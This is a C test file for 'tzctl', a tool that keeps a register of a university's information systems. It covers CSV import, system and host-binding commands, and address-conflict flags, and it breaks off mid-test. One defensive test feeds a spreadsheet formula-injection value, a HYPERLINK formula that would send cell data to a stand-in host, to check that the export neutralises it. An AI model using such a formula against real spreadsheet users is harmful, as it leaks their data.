/* test_ledger_import — the ledger through tzctl as an operator uses it: a
 * 50-row sheet exported from Excel (BOM, Chinese headers, quoted cells, a
 * line break inside 用途, dates written two ways) imported and read back
 * field by field (the other formats: test_import_sheets.c); a sheet with three bad rows refused whole with each row's
 * line; `system` and `bind` commands in every --format; the SYSTEM column of
 * `hosts` and the binding in `host show`. */
#include <criterion/criterion.h>

#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cjson/cJSON.h>

#include <time.h>

#include "civil_day.h"
#include "register.h"
#include "tz_test.h"

#define NOW 1700000000

static char *dir;
static char *out;

static void setup(void)
{
    out = NULL;
    struct tz_register *reg = tz_test_register_new("ledger", &dir);
    cr_assert_eq(register_dept_add(reg, "教务处", NOW, NULL), 0);
    cr_assert_eq(register_dept_add(reg, "计算机学院", NOW, NULL), 0);
    cr_assert_eq(register_dept_add(reg, "图书馆", NOW, NULL), 0);
    register_close(reg);
}

static void teardown(void)
{
    free(out);
    tz_test_rm_rf(dir);
    free(dir);
}

TestSuite(ledger, .init = setup, .fini = teardown);

/* Run tzctl --data DIR args...; output (stdout+stderr) into `out`. */
#define TZCTL_RUN(...) \
    tz_test_tzctl_run(dir, &out, __VA_ARGS__, (const char *)NULL)

static cJSON *parse(void)
{
    cJSON *j = cJSON_Parse(out);
    cr_assert_not_null(j, "not JSON: %s", out);
    return j;
}

static const char *jstr(const cJSON *o, const char *k)
{
    const cJSON *v = cJSON_GetObjectItem(o, k);
    cr_assert(cJSON_IsString(v), "%s is not a string", k);
    return v->valuestring;
}

static double jnum(const cJSON *o, const char *k)
{
    const cJSON *v = cJSON_GetObjectItem(o, k);
    cr_assert(cJSON_IsNumber(v), "%s is not a number", k);
    return v->valuedouble;
}

static int count_lines_with(const char *s, const char *needle)
{
    int n = 0;
    for (const char *p = s; (p = strstr(p, needle)) != NULL; p++)
        n++;
    return n;
}

/* ---- the 50-row sheet ---- */

#define ROWS 50
static const char *const depts[] = {"教务处", "计算机学院", "图书馆"};
static const char *const grades[] = {"第三级", "二级", "none", "3"};
static const int grade_of[] = {3, 2, 0, 3};

static char *sheet_path;

/* Row i of the sheet (two physical lines when 用途 holds a line break). */
static void write_row(FILE *f, int i)
{
    /* even rows: 用途 has a line break; odd rows: a comma and quotes */
    char purpose[128];
    if (i % 2 == 0)
        snprintf(purpose, sizeof(purpose), "\"第%d号系统\r\n服务全校师生\"", i);
    else
        snprintf(purpose, sizeof(purpose),
                 "\"教学, 管理 \"\"核心\"\"业务\"");
    char graded[32], evaluated[32];
    if (i % 2 == 0) {
        snprintf(graded, sizeof(graded), "2024-03-%02d", i % 28 + 1);
        snprintf(evaluated, sizeof(evaluated), "2025年%d月%d日", i % 12 + 1,
                 i % 28 + 1);
    } else {
        snprintf(graded, sizeof(graded), "2024/3/%d", i % 28 + 1);
        snprintf(evaluated, sizeof(evaluated), "2025/%d/%d", i % 12 + 1,
                 i % 28 + 1);
    }
    fprintf(f,
            "系统%02d,%s,负责人%d,管理员%d,0834-25800%02d,"
            "\"sys%02d.example.edu.cn, https://sys%02d.example.edu.cn/login\","
            "\"10.%d.0.0/16，2001:DB8:%x::1\",%s,学生信息,%s,"
            "信息中心机房,蜀ICP备%06d号,,XC-%03d,%s,%s,%s,%s,%s\r\n",
            i, depts[i % 3], i, i, i, i, i, i, i + 1, purpose,
            i % 3 == 0 ? "是" : "否", i, i, grades[i % 4], graded,
            evaluated, i % 5 == 0 ? "规划" : "运行",
            i % 2 ? "yes" : "");
}

static void write_sheet(void)
{
    sheet_path = tz_test_path("%s/台账.csv", dir);
    FILE *f = fopen(sheet_path, "wb");
    cr_assert_not_null(f);
    fputs("\xef\xbb\xbf"
          "系统名称,所属单位,负责人,管理员,联系方式,域名,IP地址,用途,数据类型,"
          "是否含个人信息,部署位置,ICP备案号,公安备案号,校内备案,等保等级,"
          "定级备案日期,最近测评日期,状态,对外服务\r\n", f);
    for (int i = 0; i < ROWS; i++)
        write_row(f, i);
    /* Excel leaves formatted but empty rows at the end */
    fputs(",,,,,,,,,,,,,,,,,,\r\n\r\n", f);
    cr_assert_eq(fclose(f), 0);
}

Test(ledger, import_50_rows_and_read_each_back_exactly)
{
    write_sheet();
    cr_assert_eq(TZCTL_RUN("system", "import", sheet_path), 0, "%s", out);
    char *said = tz_test_path("%s: read as CSV, UTF-8\nimported 50 systems\n",
                              sheet_path);
    cr_assert_str_eq(out, said);
    free(said);

    cr_assert_eq(TZCTL_RUN("--format", "json", "system", "list"), 0, "%s",
                 out);
    cJSON *list = parse();
    cr_assert_eq(cJSON_GetArraySize(list), ROWS);
    cJSON_Delete(list);

    for (int i = 0; i < ROWS; i++) {
        char name[32], want[128];
        snprintf(name, sizeof(name), "系统%02d", i);
        cr_assert_eq(TZCTL_RUN("system", "show", name, "--format", "json"),
                     0, "%s", out);
        cJSON *s = parse();
        cr_assert_eq(jnum(s, "id"), i + 1, "ids follow the file's rows");
        cr_assert_str_eq(jstr(s, "name"), name);
        cr_assert_str_eq(jstr(s, "dept"), depts[i % 3]);
        snprintf(want, sizeof(want), "负责人%d", i);
        cr_assert_str_eq(jstr(s, "owner"), want);
        snprintf(want, sizeof(want), "管理员%d", i);
        cr_assert_str_eq(jstr(s, "admin"), want);
        snprintf(want, sizeof(want), "0834-25800%02d", i);
        cr_assert_str_eq(jstr(s, "contact"), want);
        cJSON *dom = cJSON_GetObjectItem(s, "domains");
        cr_assert_eq(cJSON_GetArraySize(dom), 2);
        snprintf(want, sizeof(want), "https://sys%02d.example.edu.cn/login",
                 i);
        cr_assert_str_eq(cJSON_GetArrayItem(dom, 1)->valuestring, want);
        cJSON *ips = cJSON_GetObjectItem(s, "ips");
        cr_assert_eq(cJSON_GetArraySize(ips), 2);
        snprintf(want, sizeof(want), "10.%d.0.0/16", i);
        cr_assert_str_eq(cJSON_GetArrayItem(ips, 0)->valuestring, want);
        snprintf(want, sizeof(want), "2001:db8:%x::1", i + 1);
        cr_assert_str_eq(cJSON_GetArrayItem(ips, 1)->valuestring, want,
                         "stored canonical");
        if (i % 2 == 0)
            snprintf(want, sizeof(want), "第%d号系统\n服务全校师生", i);
        else
            snprintf(want, sizeof(want), "教学, 管理 \"核心\"业务");
        cr_assert_str_eq(jstr(s, "purpose"), want);
        cr_assert_str_eq(jstr(s, "data_kinds"), "学生信息");
        cr_assert(cJSON_IsBool(cJSON_GetObjectItem(s, "personal_data")));
        cr_assert_eq(cJSON_IsTrue(cJSON_GetObjectItem(s, "personal_data")),
                     i % 3 == 0);
        cr_assert_str_eq(jstr(s, "deployment"), "信息中心机房");
        snprintf(want, sizeof(want), "蜀ICP备%06d号", i);
        cr_assert_str_eq(jstr(s, "icp_filing"), want);
        cr_assert_str_eq(jstr(s, "psb_filing"), "");
        snprintf(want, sizeof(want), "XC-%03d", i);
        cr_assert_str_eq(jstr(s, "school_filing"), want);
        cJSON *g = cJSON_GetObjectItem(s, "mlps_grade");
        if (grade_of[i % 4])
            cr_assert_eq(jnum(s, "mlps_grade"), grade_of[i % 4]);
        else
            cr_assert(cJSON_IsNull(g), "none is no grade");
        snprintf(want, sizeof(want), "2024-03-%02d", i % 28 + 1);
        cr_assert_str_eq(jstr(s, "grading_filed_at"), want);
        snprintf(want, sizeof(want), "2025-%02d-%02d", i % 12 + 1,
                 i % 28 + 1);
        cr_assert_str_eq(jstr(s, "last_evaluation_at"), want);
        cr_assert(cJSON_IsNull(cJSON_GetObjectItem(s, "launched_at")));
        cr_assert_str_eq(jstr(s, "status"), i % 5 == 0 ? "planned" : "live");
        cr_assert_eq(cJSON_IsTrue(cJSON_GetObjectItem(s, "public_facing")),
                     i % 2 == 1);
        cr_assert_str_eq(jstr(s, "created_at"), jstr(s, "updated_at"));
        cr_assert_eq(cJSON_GetArraySize(cJSON_GetObjectItem(s, "hosts")), 0);
        cJSON_Delete(s);
    }

    /* the same file again: every row is now a duplicate, nothing changes */
    cr_assert_eq(TZCTL_RUN("system", "import", sheet_path), 1);
    cr_assert_eq(count_lines_with(out, "is already in the register"), ROWS,
                 "%s", out);
    cr_assert(strstr(out, "tzctl: nothing imported: 50 errors in "), "%s",
                 out);
    cr_assert_eq(TZCTL_RUN("--format", "csv", "systems", "--dept", "图书馆"),
                 0);
    cr_assert_eq(count_lines_with(out, "\r\n"), 1 + 16, "%s", out);
    free(sheet_path);
}

Test(ledger, three_bad_rows_refuse_the_whole_file_with_their_lines)
{
    char *path = tz_test_path("%s/bad.csv", dir);
    FILE *f = fopen(path, "wb");
    cr_assert_not_null(f);
    fputs("\xef\xbb\xbf系统名称,所属单位,owner,定级备案日期,mlps_grade,用途\r\n"
          "好系统1,教务处,张三,2024-01-02,2,\"两行\r\n用途\"\r\n"   /* 2-3 */
          "坏日期,教务处,李四,2026-02-30,2,\r\n"                     /* 4 */
          "好系统2,计算机学院,王五,2024/1/2,三级,\r\n"               /* 5 */
          "\"坏单位\",\"后勤处\",赵六,,,\"也是\n两行\"\r\n"           /* 6-7 */
          "好系统3,图书馆,钱七,,none,\r\n"                           /* 8 */
          "坏等级,图书馆,孙八,2024年1月2日,7,\r\n",                   /* 9 */
          f);
    cr_assert_eq(fclose(f), 0);
    cr_assert_eq(TZCTL_RUN("system", "import", path), 1, "%s", out);
    char *want = tz_test_path(
        "%s: read as CSV, UTF-8\n"
        "%s: line 4: 定级备案日期: \"2026-02-30\" is not a real calendar date\n"
        "%s: line 6: 所属单位: no department \"后勤处\" (add it with: tzctl "
        "dept add NAME)\n"
        "%s: line 9: 等保等级: grade 7 does not exist: 等保等级 is 1 to 5, or "
        "none/未定级\n"
        "tzctl: nothing imported: 3 errors in %s\n", path, path, path, path,
        path);
    cr_assert_str_eq(out, want);
    free(want);
    cr_assert_eq(TZCTL_RUN("system", "list"), 0);
    cr_assert_str_eq(out, "ID  系统名称  所属单位  负责人  等保等级  状态  "
                          "HOSTS\n", "nothing was imported");

    cr_assert_eq(TZCTL_RUN("system", "import", path, "--format", "json"), 1);
    cJSON *j = parse();
    cr_assert_eq(jnum(j, "imported"), 0);
    cJSON *errs = cJSON_GetObjectItem(j, "errors");
    cr_assert_eq(cJSON_GetArraySize(errs), 3);
    cr_assert(strncmp(cJSON_GetArrayItem(errs, 2)->valuestring,
                      "line 9: 等保等级: ", 22) == 0, "%s",
              cJSON_GetArrayItem(errs, 2)->valuestring);
    cJSON_Delete(j);
    free(path);
}

Test(ledger, file_level_errors_name_the_problem)
{
    /* neither UTF-8 nor GBK: 0xFF is no byte of either */
    tz_test_write(dir, "bad.csv", "\xcf\xb5\xcd\xb3\xc3\xfb\xb3\xc6,"
                                  "\xff\r\n");
    char *p = tz_test_path("%s/bad.csv", dir);
    cr_assert_eq(TZCTL_RUN("system", "import", p), 1);
    char *want = tz_test_path("tzctl: %s:1: the file is neither UTF-8 nor "
                              "GB18030 (GBK) text: in Excel save it as 'CSV "
                              "UTF-8 (逗号分隔)'\n", p);
    cr_assert_str_eq(out, want);
    free(want);
    free(p);

    /* unknown columns are left out, but 所属单位 is required */
    tz_test_write(dir, "cols.csv", "系统名称,颜色,size\n甲,红,1\n");
    p = tz_test_path("%s/cols.csv", dir);
    cr_assert_eq(TZCTL_RUN("system", "import", p), 1);
    cr_assert(strstr(out, ": ignored 2 columns that name no ledger field: "
                          "颜色 (B), size (C)\n"), "%s", out);
    cr_assert(strstr(out, "line 1: the header has no 所属单位 (dept) column"),
              "%s", out);
    free(p);

    tz_test_write(dir, "dup.csv", "name,dept\n甲,教务处\n乙,教务处\n"
                                  "甲,教务处\n");
    p = tz_test_path("%s/dup.csv", dir);
    cr_assert_eq(TZCTL_RUN("system", "import", p), 1);
    cr_assert(strstr(out, "line 4: 系统名称: \"甲\" of 教务处 is also on line "
                          "2\n"), "%s", out);
    free(p);

    tz_test_write(dir, "quote.csv", "name,dept\n甲,教\"务处\n");
    p = tz_test_path("%s/quote.csv", dir);
    cr_assert_eq(TZCTL_RUN("system", "import", p), 1);
    cr_assert(strstr(out, "quote.csv:2: a quote in the middle of an unquoted "
                          "field"), "%s", out);
    free(p);

    tz_test_write(dir, "empty.csv", "");
    p = tz_test_path("%s/empty.csv", dir);
    cr_assert_eq(TZCTL_RUN("system", "import", p), 1);
    cr_assert(strstr(out, "the file is empty"), "%s", out);
    free(p);
    cr_assert_eq(TZCTL_RUN("system", "import"), 2);
    cr_assert_eq(TZCTL_RUN("system", "import", "/nonexistent/x.csv"), 1);
}

/* ---- system commands in every format ---- */

Test(ledger, system_add_show_set_retire_and_list_in_every_format)
{
    cr_assert_eq(TZCTL_RUN("system", "add", "教务系统", "--dept", "教务处",
                           "--owner", "张三", "--admin=李四",
                           "--ips", "10.1.0.0/16", "--mlps-grade", "第三级",
                           "--grading-filed-at", "2024/3/1",
                           "--public-facing", "是", "--status", "运行"),
                 0, "%s", out);
    cr_assert_str_eq(out, "added system 1: 教务系统\n");
    cr_assert_eq(TZCTL_RUN("--format", "json", "system", "add", "图书系统",
                           "--dept", "图书馆"), 0, "%s", out);
    cJSON *j = parse();
    cr_assert_eq(jnum(j, "id"), 2);
    cr_assert_str_eq(jstr(j, "name"), "图书系统");
    cJSON_Delete(j);

    cr_assert_eq(TZCTL_RUN("system", "add", "x", "--dept", "教务处",
                           "--mlps-grade", "7"), 1);
    cr_assert_str_eq(out, "tzctl: 等保等级 (mlps_grade): grade 7 does not "
                          "exist: 等保等级 is 1 to 5, or none/未定级\n");
    cr_assert_eq(TZCTL_RUN("system", "add", "x", "--dept", "后勤处"), 1);
    cr_assert(strstr(out, "no department \"后勤处\""), "%s", out);
    cr_assert_eq(TZCTL_RUN("system", "add", "x"), 2);
    cr_assert(strstr(out, "needs --dept"), "%s", out);
    cr_assert_eq(TZCTL_RUN("system", "add", "x", "--dept", "教务处",
                           "--colour", "red"), 2);
    cr_assert_eq(TZCTL_RUN("system", "add", "教务系统", "--dept", "教务处"),
                 1);
    cr_assert_str_eq(out, "tzctl: 教务处 already has a system named "
                          "\"教务系统\" (id 1)\n");

    cr_assert_eq(TZCTL_RUN("system", "show", "1"), 0, "%s", out);
    cr_assert(strncmp(out, "系统编号 (id): 1\n系统名称 (name): 教务系统\n"
                           "所属单位 (dept): 教务处\n负责人 (owner): 张三\n"
                           "管理员 (admin): 李四\n联系方式 (contact): -\n",
                      strlen("系统编号 (id): 1\n系统名称 (name): 教务系统\n"
                             "所属单位 (dept): 教务处\n负责人 (owner): 张三\n"
                             "管理员 (admin): 李四\n联系方式 (contact): -\n")) ==
                  0, "%s", out);
    cr_assert(strstr(out, "\n等保等级 (mlps_grade): 3\n"
                          "定级备案日期 (grading_filed_at): 2024-03-01\n"),
              "%s", out);
    cr_assert(strstr(out, "\n对外服务 (public_facing): yes\n"), "%s", out);
    cr_assert(strstr(out, "\n主机 (hosts): -\n"), "%s", out);

    cr_assert_eq(TZCTL_RUN("--format", "csv", "system", "show", "教务系统"),
                 0);
    cr_assert(strncmp(out, "id,name,dept,owner,admin,contact,domains,ips,",
                      45) == 0, "%s", out);
    cr_assert(strstr(out, "\r\n1,教务系统,教务处,张三,李四,,,10.1.0.0/16,"),
              "%s", out);

    cr_assert_eq(TZCTL_RUN("system", "set", "教务系统", "负责人=王五",
                           "mlps_grade=2", "用途=选课\n查成绩"), 0, "%s", out);
    cr_assert_str_eq(out, "updated system 1: 教务系统\n");
    cr_assert_eq(TZCTL_RUN("system", "set", "1", "grading_filed_at=2026-02-30"),
                 1);
    cr_assert_str_eq(out, "tzctl: 定级备案日期 (grading_filed_at): "
                          "\"2026-02-30\" is not a real calendar date\n");
    cr_assert_eq(TZCTL_RUN("system", "set", "1", "colour=red"), 2);
    cr_assert_eq(TZCTL_RUN("system", "set", "1", "owner"), 2);
    cr_assert_eq(TZCTL_RUN("system", "set", "9", "owner=x"), 1);
    cr_assert_str_eq(out, "tzctl: no system with id 9\n");
    cr_assert_eq(TZCTL_RUN("system", "show", "1", "--format", "json"), 0);
    j = parse();
    cr_assert_str_eq(jstr(j, "owner"), "王五");
    cr_assert_str_eq(jstr(j, "purpose"), "选课\n查成绩");
    cr_assert_eq(jnum(j, "mlps_grade"), 2);
    cJSON_Delete(j);
    cr_assert_eq(TZCTL_RUN("system", "show", "1"), 0);
    cr_assert(strstr(out, "\n用途 (purpose): 选课\n  查成绩\n"), "%s", out);

    cr_assert_eq(TZCTL_RUN("systems"), 0, "%s", out);
    cr_assert_str_eq(out,
                     "ID  系统名称  所属单位  负责人  等保等级  状态  HOSTS\n"
                     "1   教务系统  教务处    王五    2         live  0\n"
                     "2   图书系统  图书馆    -       -         live  0\n");
    cr_assert_eq(TZCTL_RUN("system", "list", "--format", "csv"), 0);
    cr_assert_str_eq(out, "id,name,dept,owner,mlps_grade,status,hosts\r\n"
                          "1,教务系统,教务处,王五,2,live,0\r\n"
                          "2,图书系统,图书馆,,,live,0\r\n");
    cr_assert_eq(TZCTL_RUN("system", "list", "--dept", "图书馆", "--format",
                           "json"), 0);
    j = parse();
    cr_assert_eq(cJSON_GetArraySize(j), 1);
    cr_assert_eq(jnum(cJSON_GetArrayItem(j, 0), "id"), 2);
    cr_assert(cJSON_IsNull(cJSON_GetObjectItem(cJSON_GetArrayItem(j, 0),
                                               "mlps_grade")));
    cJSON_Delete(j);
    cr_assert_eq(TZCTL_RUN("system", "list", "--dept", "后勤处"), 1);
    cr_assert_str_eq(out, "tzctl: no department \"后勤处\"\n");

    cr_assert_eq(TZCTL_RUN("system", "retire", "图书系统"), 0, "%s", out);
    cr_assert_str_eq(out, "retired system 2: 图书系统\n");
    cr_assert_eq(TZCTL_RUN("system", "list", "--status", "下线", "--format",
                           "csv"), 0);
    cr_assert_str_eq(out, "id,name,dept,owner,mlps_grade,status,hosts\r\n"
                          "2,图书系统,图书馆,,,retired,0\r\n");
    cr_assert_eq(TZCTL_RUN("system", "list", "--status", "running"), 2);
    cr_assert_eq(TZCTL_RUN("system", "show", "不存在"), 1);
    cr_assert_str_eq(out, "tzctl: no system named \"不存在\" (tzctl systems lists them)\n");
    cr_assert_eq(TZCTL_RUN("system", "frob"), 2);
}

/* ---- bindings through tzctl ---- */

static void enroll_and_report(struct tz_register *reg, int pk,
                              const char *dept, const char *hostname,
                              const char *v4)
{
    char tok[REGISTER_TOKEN_LEN];
    cr_assert_eq(register_token_create(reg, dept, NOW, tok, NULL), 0);
    Tz__Enroll en = TZ__ENROLL__INIT;
    en.token = tok;
    en.hostname = (char *)hostname;
    struct register_item it = {.kind = ITEM_ENROLL, .seq = 1, .enroll = &en};
    memset(it.agent_pk, pk, 32);
    cr_assert_eq(register_put_batch(reg, &it, 1, NOW, NULL), 0);
    cr_assert_eq(it.status, TZ__STATUS__OK);

    Tz__HostSection host = TZ__HOST_SECTION__INIT;
    host.hostname = (char *)hostname;
    Tz__Interface eth = TZ__INTERFACE__INIT, *ethp = &eth;
    char *a4[] = {(char *)v4};
    eth.name = "eth0";
    eth.ipv4 = a4;
    eth.n_ipv4 = 1;
    Tz__InterfacesSection ifs = TZ__INTERFACES_SECTION__INIT;
    ifs.interfaces = &ethp;
    ifs.n_interfaces = 1;
    Tz__Report r = TZ__REPORT__INIT;
    r.host = &host;
    r.interfaces = &ifs;
    struct register_item rep = {.kind = ITEM_REPORT, .seq = 2, .report = &r};
    memset(rep.agent_pk, pk, 32);
    cr_assert_eq(register_put_batch(reg, &rep, 1, NOW, NULL), 0);
    cr_assert_eq(rep.status, TZ__STATUS__OK, "%s", rep.detail);
}

Test(ledger, bind_unbind_hosts_column_and_host_show)
{
    struct tz_register *reg;
    cr_assert_eq(register_open(dir, 0, &reg, NULL), 0);
    enroll_and_report(reg, 1, "教务处", "jwc01.example.edu.cn",
                      "10.1.2.3/24");
    enroll_and_report(reg, 2, "计算机学院", "lab01", "192.0.2.7/24");
    register_close(reg);
    cr_assert_eq(TZCTL_RUN("system", "add", "教务系统", "--dept", "教务处",
                           "--ips", "10.1.0.0/16"), 0, "%s", out);
    cr_assert_eq(TZCTL_RUN("system", "add", "实验平台", "--dept",
                           "计算机学院"), 0, "%s", out);

    /* host 1 belongs to 教务系统 by its address, host 2 to nothing */
    cr_assert_eq(TZCTL_RUN("--format", "csv", "hosts"), 0, "%s", out);
    cr_assert(strstr(out, "ips,last_seen,system_id,revoked\r\n"), "%s", out);
    cr_assert(strstr(out, ",10.1.2.3,2023-11-14T22:13:20Z,1,\r\n"), "%s", out);
    cr_assert(strstr(out, ",192.0.2.7,2023-11-14T22:13:20Z,,\r\n"), "%s", out);
    cr_assert_eq(TZCTL_RUN("host", "show", "1"), 0);
    cr_assert(strstr(out, "\n  system:       1 教务系统 (match)\n"), "%s",
              out);

    cr_assert_eq(TZCTL_RUN("bind", "lab01", "实验平台", "--by", "ops"), 0,
                 "%s", out);
    cr_assert_str_eq(out, "bound host 2 (lab01) to system 2\n");
    cr_assert_eq(TZCTL_RUN("--format", "json", "bind", "1", "2"), 0, "%s",
                 out);
    cJSON *j = parse();
    cr_assert_eq(jnum(j, "host"), 1);
    cr_assert_eq(jnum(j, "system"), 2);
    cr_assert_str_eq(jstr(j, "source"), "explicit");
    cJSON_Delete(j);

    cr_assert_eq(TZCTL_RUN("systems"), 0, "%s", out);
    cr_assert_str_eq(out,
                     "ID  系统名称  所属单位    负责人  等保等级  状态  HOSTS\n"
                     "1   教务系统  教务处      -       -         live  0\n"
                     "2   实验平台  计算机学院  -       -         live  2\n");
    cr_assert_eq(TZCTL_RUN("host", "show", "2", "--format", "json"), 0);
    j = parse();
    cJSON *b = cJSON_GetObjectItem(j, "binding");
    cr_assert_eq(jnum(b, "system_id"), 2);
    cr_assert_str_eq(jstr(b, "name"), "实验平台");
    cr_assert_str_eq(jstr(b, "source"), "explicit");
    cJSON_Delete(j);
    cr_assert_eq(TZCTL_RUN("system", "show", "2", "--format", "json"), 0);
    j = parse();
    cJSON *hosts = cJSON_GetObjectItem(j, "hosts");
    cr_assert_eq(cJSON_GetArraySize(hosts), 2);
    cr_assert_str_eq(jstr(cJSON_GetArrayItem(hosts, 1), "hostname"),
                     "lab01");
    cJSON_Delete(j);
    cr_assert_eq(TZCTL_RUN("system", "show", "2"), 0);
    cr_assert(strstr(out, "\n主机 (hosts):\n  1 jwc01.example.edu.cn "
                          "(explicit)\n  2 lab01 (explicit)\n"), "%s", out);

    cr_assert_eq(TZCTL_RUN("unbind", "1"), 0, "%s", out);
    cr_assert_str_eq(out, "unbound host 1 (jwc01.example.edu.cn): it now "
                          "belongs to system 1 (match)\n");
    cr_assert_eq(TZCTL_RUN("--format", "json", "unbind", "lab01"), 0);
    j = parse();
    cr_assert(cJSON_IsNull(cJSON_GetObjectItem(j, "system")));
    cr_assert_str_eq(jstr(j, "source"), "");
    cJSON_Delete(j);
    cr_assert_eq(TZCTL_RUN("unbind", "lab01"), 1);
    cr_assert_str_eq(out, "tzctl: host 2 has no explicit binding\n");
    cr_assert_eq(TZCTL_RUN("host", "show", "2"), 0);
    cr_assert(strstr(out, "\n  system:       none (not in the ledger)\n"),
              "%s", out);

    cr_assert_eq(TZCTL_RUN("bind", "nohost", "1"), 1);
    cr_assert_str_eq(out, "tzctl: no host named \"nohost\" (tzctl hosts lists them)\n");
    cr_assert_eq(TZCTL_RUN("bind", "1", "9"), 1);
    cr_assert_str_eq(out, "tzctl: no system with id 9\n");
    cr_assert_eq(TZCTL_RUN("bind", "1"), 2);
    cr_assert_eq(TZCTL_RUN("unbind"), 2);
    cr_assert_eq(TZCTL_RUN("system", "retire", "1"), 0);
    cr_assert_eq(TZCTL_RUN("bind", "1", "1"), 1);
    cr_assert(strstr(out, "is retired"), "%s", out);
    cr_assert_eq(TZCTL_RUN("hosts", "--format", "json"), 0);
    j = parse();
    cr_assert(cJSON_IsNull(cJSON_GetObjectItem(cJSON_GetArrayItem(j, 0),
                                               "system_id")),
              "a retired system matches no host");
    cJSON_Delete(j);
}

/* A value a spreadsheet would run as a formula (security review, finding
 * 8) leaves tzctl as text: an apostrophe in front, quoted. Importing that
 * export gives the value back as it was stored. */
Test(ledger, formula_like_cells_are_guarded_in_csv_and_import_back)
{
    cr_assert_eq(TZCTL_RUN("system", "add", "=HYPERLINK(\"http://x/?\"&A1)",
                           "--dept", "教务处", "--owner", "+86 138 0000 0000"),
                 0, "%s", out);
    cr_assert_eq(TZCTL_RUN("system", "list", "--format", "csv"), 0, "%s", out);
    cr_assert(strstr(out, ",\"'=HYPERLINK(\"\"http://x/?\"\"&A1)\",教务处,"
                          "\"'+86 138 0000 0000\","), "%s", out);
    /* the id column is a number we wrote: never guarded */
    cr_assert(strstr(out, "\r\n1,\"'="), "%s", out);

    char *path = tz_test_path("%s/guarded.csv", dir);
    FILE *f = fopen(path, "wb");
    cr_assert_not_null(f);
    fputs("系统名称,所属单位,负责人,用途\r\n"
          "\"'@SUM(1)\",教务处,\"'-张三\",\"'=1+1\"\r\n"
          "'not a guard,教务处,李四,\"it's fine\"\r\n", f);
    cr_assert_eq(fclose(f), 0);
    cr_assert_eq(TZCTL_RUN("system", "import", path), 0, "%s", out);
    cr_assert_eq(TZCTL_RUN("system", "show", "@SUM(1)", "--format", "json"), 0,
                 "%s", out);
    cJSON *j = parse();
    cr_assert_str_eq(jstr(j, "owner"), "-张三");
    cr_assert_str_eq(jstr(j, "purpose"), "=1+1");
    cJSON_Delete(j);
    cr_assert_eq(TZCTL_RUN("system", "show", "'not a guard", "--format", "json"),
                 0, "%s", out);
    free(path);
}

/* The evidence of the open AMBIGUOUS_BINDING flag on host 1 of `flags
 * --format json`, NULL when there is none. Caller frees. */
static char *ambiguous_evidence(void)
{
    cr_assert_eq(TZCTL_RUN("--format", "json", "flags", "--host", "1"), 0, "%s", out);
    cJSON *j = parse(), *f;
    char *ev = NULL;
    cJSON_ArrayForEach(f, j)
        if (strcmp(jstr(f, "id"), "AMBIGUOUS_BINDING") == 0)
            ev = strdup(jstr(f, "evidence"));
    cJSON_Delete(j);
    return ev;
}

/* Issue 19: systems of 教务处 and 计算机学院 both claim 192.0.2.2. The
 * 计算机学院 host there is not matched into 教务处's system: it is bound to
 * none and flagged, `tzctl bind` settles it and the flag closes, and
 * `systems --conflicts` shows the two claims. */
Test(ledger, a_cross_department_match_is_a_flag_until_bound)
{
    struct tz_register *reg;
    cr_assert_eq(register_open(dir, 0, &reg, NULL), 0);
    enroll_and_report(reg, 1, "计算机学院", "lab01", "192.0.2.2/24");
    register_close(reg);
    cr_assert_eq(TZCTL_RUN("system", "add", "教务系统", "--dept", "教务处",
                           "--ips", "192.0.2.0/24", "--domains",
                           "https://jwc.example.edu.cn/"), 0, "%s", out);
    cr_assert_eq(TZCTL_RUN("host", "show", "1"), 0);
    cr_assert(strstr(out, "\n  system:       none (not in the ledger)\n"), "%s", out);
    cr_assert(strstr(out, "\n  matches:      system 1: bound to none, see "
                          "AMBIGUOUS_BINDING\n"), "%s", out);
    char *ev = ambiguous_evidence();
    cr_assert_not_null(ev, "%s", out);
    cr_assert_str_eq(ev, "matches 1 system by address or hostname, 1 of them of "
                         "other departments, and is bound to none: host lab01 "
                         "(agent 1) of 计算机学院; candidates: system 1 (教务系统, 教务处)");
    free(ev);
    /* 计算机学院's view does not name 教务处's system */
    cr_assert_eq(TZCTL_RUN("--format", "json", "flags", "--dept", "计算机学院"), 0);
    cr_assert(strstr(out, "AMBIGUOUS_BINDING") && !strstr(out, "教务系统"), "%s", out);

    cr_assert_eq(TZCTL_RUN("system", "add", "实验平台", "--dept", "计算机学院",
                           "--ips", "192.0.2.2, 2001:db8::1-2001:db8::ff",
                           "--domains", "JWC.example.edu.cn"), 0, "%s", out);
    cr_assert_eq(TZCTL_RUN("system", "add", "图书系统", "--dept", "图书馆",
                           "--ips", "2001:db8::/120"), 0, "%s", out);
    cr_assert_eq(TZCTL_RUN("systems", "--conflicts"), 0, "%s", out);
    cr_assert_str_eq(out,
        "ID  系统名称  所属单位    ITEM                         OTHER  OTHER NAME  "
        "OTHER DEPT  OTHER ITEM          SHARED                    CROSS DEPT\n"
        "1   教务系统  教务处      192.0.2.0/24                 2      实验平台    "
        "计算机学院  192.0.2.2           192.0.2.2                 yes\n"
        "1   教务系统  教务处      https://jwc.example.edu.cn/  2      实验平台    "
        "计算机学院  JWC.example.edu.cn  jwc.example.edu.cn        yes\n"
        "2   实验平台  计算机学院  2001:db8::1-2001:db8::ff     3      图书系统    "
        "图书馆      2001:db8::/120      2001:db8::1-2001:db8::ff  yes\n");
    cr_assert_eq(TZCTL_RUN("--format", "csv", "system", "list", "--conflicts",
                           "--dept", "图书馆"), 0, "%s", out);
    cr_assert_str_eq(out,
        "id,name,dept,item,other_id,other_name,other_dept,other_item,shared,"
        "cross_dept\r\n"
        "2,实验平台,计算机学院,2001:db8::1-2001:db8::ff,3,图书系统,图书馆,"
        "2001:db8::/120,2001:db8::1-2001:db8::ff,yes\r\n");
    cr_assert_eq(TZCTL_RUN("--format", "json", "systems", "--conflicts"), 0, "%s", out);
    cJSON *j = parse();
    cr_assert_eq(cJSON_GetArraySize(j), 3);
    cJSON *x = cJSON_GetArrayItem(j, 1);
    cr_assert_eq(jnum(x, "id"), 1);
    cr_assert_eq(jnum(x, "other_id"), 2);
    cr_assert_str_eq(jstr(x, "shared"), "jwc.example.edu.cn");
    cr_assert_str_eq(jstr(x, "cross_dept"), "yes");
    cJSON_Delete(j);
    cr_assert_eq(TZCTL_RUN("systems", "--conflicts", "--status", "live"), 2);
    cr_assert_eq(TZCTL_RUN("systems", "--conflicts", "--dept", "无此单位"), 1);
    cr_assert_str_eq(out, "tzctl: no department \"无此单位\"\n");

    /* now its own department's one system matches: bound, flag closed */
    cr_assert_eq(TZCTL_RUN("host", "show", "1"), 0);
    cr_assert(strstr(out, "\n  system:       2 实验平台 (match)\n"), "%s", out);
